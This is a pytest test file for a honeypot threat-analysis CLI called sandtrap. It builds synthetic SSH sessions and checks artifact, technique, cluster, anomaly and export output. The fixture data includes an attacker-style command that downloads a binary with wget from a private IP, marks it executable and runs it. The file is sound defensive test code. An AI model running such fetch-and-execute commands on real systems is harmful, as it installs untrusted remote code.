"""The threat-analysis commands in process (click's runner) over an index built from an event
log of synthetic sessions: artifacts list/show, techniques, clusters, anomalies, and the export
bundle's analysis.json."""

from __future__ import annotations

import json
import tarfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from sandtrap.cli import cli

SHA = "ab" * 32


def _records() -> list[dict[str, Any]]:
    records: list[dict[str, Any]] = []
    for n in range(3):
        session = f"{n:012x}"
        base = {
            "sensor": "s",
            "session": session,
            "src_ip": f"198.51.100.{n}",
            "src_port": 1,
            "dst_port": 22,
        }
        at = f"2026-11-29T10:0{n}:00.000000Z"
        records += [
            {**base, "timestamp": at, "eventid": "session.connect", "dst_ip": "192.0.2.1"},
            {
                **base,
                "timestamp": at,
                "eventid": "session.geo",
                "country": "NL",
                "country_name": "Netherlands",
                "asn": 64496,
                "as_org": "Example",
            },
            {
                **base,
                "timestamp": at,
                "eventid": "auth.failed",
                "username": "root",
                "method": "publickey",
                "key_type": "ssh-ed25519",
                "key_fingerprint": "SHA256:k",
                "key": "ssh-ed25519 AAAA",
                "reason": "public key refused",
            },
            {
                **base,
                "timestamp": at,
                "eventid": "auth.success",
                "username": "root",
                "method": "password",
                "password": "123456",
                "reason": "credentials",
            },
            {
                **base,
                "timestamp": at,
                "eventid": "session.exec",
                "channel": 0,
                "input": f"cd /tmp; wget http://10.0.0.{n}/x; chmod +x x; ./x {n}",
                "pty": False,
            },
            {
                **base,
                "timestamp": at,
                "eventid": "session.attack",
                "technique": "T1105",
                "name": "Ingress Tool Transfer",
                "tactic": "Command and Control",
                "evidence": "wget",
                "source": "session.exec",
            },
            {
                **base,
                "timestamp": at,
                "eventid": "sandbox.artifact",
                "container_id": "c",
                "path": "/tmp/x",
                "size": 10,
                "sha256": SHA,
                "artifact": f"/var/artifacts/{SHA}",
            },
            {
                **base,
                "timestamp": at,
                "eventid": "artifact.analysed",
                "sha256": SHA,
                "size": 10,
                "path": "/tmp/x",
                "md5": "m",
                "sha1": "s",
                "magic": "ELF 32-bit MSB executable, MIPS",
                "mime": "application/x-executable",
                "ssdeep": "3:a:b",
                "tlsh": None,
                "elf_arch": "mips-32-be",
                "yara": ["SandTrap_Mirai_Like"],
                "urls": ["http://10.0.0.1/x"],
                "ips": [],
                "domains": [],
                "error": None,
            },
            {
                **base,
                "timestamp": at,
                "eventid": "session.closed",
                "reason": "closed",
                "duration": 3.0,
                "bytes_in": 10,
                "bytes_out": 20,
            },
        ]
    records.append(
        {
            **base,
            "timestamp": at,
            "eventid": "session.anomaly",
            "score": 0.71,
            "threshold": 0.6,
            "percentile": 99.0,
            "history": 200,
            "features": {
                "commands": 1,
                "novelty": 1.0,
                "bytes_in": 10,
                "bytes_out": 20,
                "duration": 3.0,
                "artifacts": 1,
            },
        }
    )
    return records


@pytest.fixture
def config(tmp_path: Path) -> Path:
    log = tmp_path / "var" / "log" / "events.jsonl"
    log.parent.mkdir(parents=True)
    log.write_text("".join(json.dumps(r) + "\n" for r in _records()))
    path = tmp_path / "config.yaml"
    path.write_text(f"storage:\n  data_dir: {tmp_path / 'var'}\n")
    return path


def run(config: Path, *args: str) -> str:
    result = CliRunner().invoke(cli, [*args, "--config", str(config)], env={"COLUMNS": "250"})
    assert result.exit_code == 0, result.output
    return result.output


def test_artifacts_list_and_show(config: Path) -> None:
    (row,) = [json.loads(line) for line in run(config, "artifacts", "list", "--json").splitlines()]
    assert (row["sha256"], row["sessions"], row["yara"], row["elf_arch"]) == (
        SHA,
        3,
        ["SandTrap_Mirai_Like"],
        "mips-32-be",
    )
    assert "SandTrap_Mirai_Like" in run(config, "artifacts", "list", "--since", "3650d")
    shown = json.loads(run(config, "artifacts", "show", SHA[:8], "--json"))
    assert len(shown["seen"]) == 3 and shown["analysis"]["urls"] == ["http://10.0.0.1/x"]
    assert "mips-32-be" in run(config, "artifacts", "show", SHA)
    bad = CliRunner().invoke(cli, ["artifacts", "show", "zz", "--config", str(config)])
    assert bad.exit_code == 1 and "not a sha256" in bad.output


def test_techniques_clusters_anomalies(config: Path) -> None:
    (technique,) = [json.loads(line) for line in run(config, "techniques", "--json").splitlines()]
    assert (technique["technique"], technique["sessions"]) == ("T1105", 3)
    assert "Ingress Tool Transfer" in run(config, "techniques")
    (cluster,) = [json.loads(line) for line in run(config, "clusters", "--json").splitlines()]
    assert cluster["size"] == 3
    assert set(cluster["ties"]) == {"artifact", "public_key", "commands"}
    assert cluster["id"] in run(config, "clusters")
    (anomaly,) = [json.loads(line) for line in run(config, "anomalies", "--json").splitlines()]
    assert anomaly["score"] == 0.71 and anomaly["features"]["artifacts"] == 1
    assert "0.710" in run(config, "anomalies")


def test_export_bundle_analysis_json(config: Path, tmp_path: Path) -> None:
    output = tmp_path / "b.tar.gz"
    run(config, "export", "000000000002", "-o", str(output), "--no-engine")
    with tarfile.open(output) as archive:
        member = archive.extractfile("000000000002/analysis.json")
        assert member is not None
        analysis = json.loads(member.read())
    assert analysis["geo"]["country"] == "NL"
    assert [a["sha256"] for a in analysis["artifacts"]] == [SHA]
    assert analysis["attack"][0]["technique"] == "T1105"
    assert analysis["anomaly"]["score"] == 0.71
    assert analysis["public_keys"][0]["accepted"] is False
